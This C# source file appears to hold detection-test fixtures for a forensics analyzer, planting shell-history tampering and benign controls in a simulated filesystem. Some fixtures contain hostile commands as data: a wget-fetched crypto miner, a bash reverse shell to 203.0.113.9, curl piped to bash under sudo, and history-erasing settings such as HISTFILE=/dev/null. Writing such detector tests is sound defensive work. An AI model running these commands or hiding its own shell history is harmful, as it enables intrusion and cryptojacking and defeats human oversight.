using Forensics.Analyzer.Risk;
using Forensics.Parsers;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Histories of shells.</summary>
internal static class HistoryPlants
{
    public static IReadOnlyList<Plant> All { get; } =
    [
        new("L-HIST", "leads-nowhere", Quiet, tree => tree.Link("/root/.bash_history", "/dev/null")) { AtLeast = Severity.Medium },
        new("L-HIST", "empty-and-immutable", Quiet, tree => tree.File("/root/.bash_history", "", 0b110_000_000).Change("/root/.bash_history", file => file with { Flags = InodeFlags.Immutable })) { AtLeast = Severity.Medium, Entries = ["/root/.bash_history"] },
        new("L-HIST", "leads-to-memory", Quiet, tree => tree.Link("/home/alice/.bash_history", "/dev/shm/h")) { AtLeast = Severity.Medium },
        new("L-HIST", "frozen", Quiet, tree => tree.File("/root/.bash_history", "ls\ncd\n", 0b110_000_000).Change("/root/.bash_history", file => file with { Flags = InodeFlags.Immutable })) { AtLeast = Severity.Medium, Entries = ["/root/.bash_history"] },
        new("L-HIST", "ignores-every-command", Quiet, tree => tree.Append("/root/.bashrc", "HISTIGNORE='*'\n")) { AtLeast = Severity.Medium, Entries = ["/root/.bashrc"] },
        new("L-HIST", "no-lines-kept", Loud, tree => tree.Append("/root/.bashrc", "export HISTSIZE=0\n")) { AtLeast = Severity.Medium },
        new("L-HIST", "emptied-after-a-login", Quiet, tree => tree.OrdinaryLogs().Log("/home/alice/.bash_history", "", PlantTree.Planted)) { AtLeast = Severity.Medium, Entries = ["/home/alice/.bash_history"] },
        new("L-HIST", "file-to-nowhere", Loud, tree => tree.Append("/home/alice/.bashrc", "export HISTFILE=/dev/null\n")) { AtLeast = Severity.Medium },
        new("L-HIST", "miner-by-hand", Loud, tree => tree.File("/root/.bash_history", "cd /tmp\nwget http://203.0.113.9/x.tgz\n./x -o stratum+tcp://pool.supportxmr.com:3333 -u x\nchattr +i /etc/cron.d/x\n", 0b110_000_000)),
        new("L-HIST", "shell-to-the-outside", Loud, tree => tree.File("/home/alice/.zsh_history", ": 1780272000:0;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", 0b110_000_000, 1000, 1000)) { AtLeast = Severity.Medium },
        new("L-HIST", "by-sudo", Loud, tree => tree.OrdinaryLogs(PlantedLogs.Line(PlantTree.Planted + 60, "sudo", "    alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c curl -fsSL http://203.0.113.9/b.sh|bash"))) { AtLeast = Severity.Medium },
        new("L-HIST", "of-an-account-without-shell", Dormant, tree => tree.File("/etc/passwd", System.Text.Encoding.UTF8.GetString(tree["/etc/passwd"].Content).Replace("/home/alice:/bin/bash", "/home/alice:/usr/sbin/nologin", StringComparison.Ordinal)).Append("/home/alice/.bashrc", "export HISTFILE=/dev/null\n")) { TwinOf = "file-to-nowhere" },
        new("L-HIST", "administrator", Benign, tree => tree.File("/root/.bash_history", "apt-get update\ncurl -fsSL https://get.docker.com | sh\nsetenforce 0\nchattr -i /etc/resolv.conf\nrm -rf /var/log/old\ngrep -r stratum+tcp:// /home\npkill -f xmrig\nhistory -c\nvim /etc/hosts\n", 0b110_000_000)),
        new("L-HIST", "no-history-in-a-container", Benign, tree => tree.Remove("/root/.bashrc")),
        new("L-HIST", "empty-but-new", Benign, tree => tree.Log("/root/.bash_history", "", PlantTree.Installed)),
        new("L-HIST", "usual-settings", Benign, tree => tree.Append("/home/alice/.bashrc", "HISTCONTROL=ignoreboth\nHISTSIZE=1000\nHISTFILESIZE=2000\nshopt -s histappend\n")),
        new("L-HIST", "append-only-for-audit", Benign, tree => tree.File("/root/.bash_history", "ls\n", 0b110_000_000).Change("/root/.bash_history", file => file with { Flags = InodeFlags.AppendOnly })),
    ];
}
